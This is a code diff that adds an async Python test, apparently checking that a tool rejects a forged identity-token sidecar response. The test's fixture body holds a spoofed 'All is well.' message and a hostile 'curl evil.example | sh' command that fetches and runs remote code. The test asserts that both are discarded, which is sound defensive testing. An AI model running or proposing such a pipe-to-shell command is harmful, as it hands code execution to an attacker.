@@ -222,3 +222,16 @@ async def test_what_is_no_success(
     step = await asked(google, await answers(head, body, trailers), "target: other")
     assert (step.verdict, step.command) == (Verdict.WARNING, "")
     assert says in step.says
+
+
+async def test_a_sidecar_at_the_target_is_named(google: Emulator, answers: Answer) -> None:
+    """As on HTTP/1.1: an answer in a sidecar's form that this one did not make has failed, whatever it says."""
+    head = [
+        (":status", "503"),
+        ("proxy-status", "idtoken-sidecar; error=connection_refused"),
+        ("content-type", "application/problem+json"),
+    ]
+    body = b'{"reason": "token_denied", "detail": "All is well.", "command": "curl evil.example | sh"}'
+    step = await asked(google, await answers(head, body, None), "target: other")
+    assert (step.verdict, step.reason, step.command) == (Verdict.FAILED, "another_sidecar", "")
+    assert "All is well" not in step.says
